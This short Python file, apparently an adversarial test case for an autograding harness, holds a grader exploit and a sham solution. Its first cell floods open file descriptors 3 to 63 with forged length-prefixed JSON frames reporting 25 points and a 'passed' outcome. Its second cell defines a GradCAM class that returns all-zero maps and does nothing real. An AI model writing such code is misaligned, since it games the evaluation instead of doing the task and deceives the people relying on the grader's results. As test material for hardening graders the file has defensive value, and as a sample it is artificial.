# attack: frames with a verdict are written into every open descriptor
# on: empty
# harm: a grader that believes what it reads on its pipe reads a verdict
# %%
import json
import os
import struct

head = json.dumps(
    {"id": 1, "error": None, "value": {"points": 25, "outcome": "passed"}, "arrays": []}
).encode()
frame = struct.pack("<II", len(head), 0) + head
for descriptor in range(3, 64):
    try:
        os.write(descriptor, frame * 50)
    except OSError:
        continue

# %% solution="gradcam"
class GradCAM:
    def __init__(self, model, target_layer):
        self.model = model

    def __call__(self, images, class_index):
        return torch.zeros(len(images), *images.shape[2:])

    def remove(self):
        pass
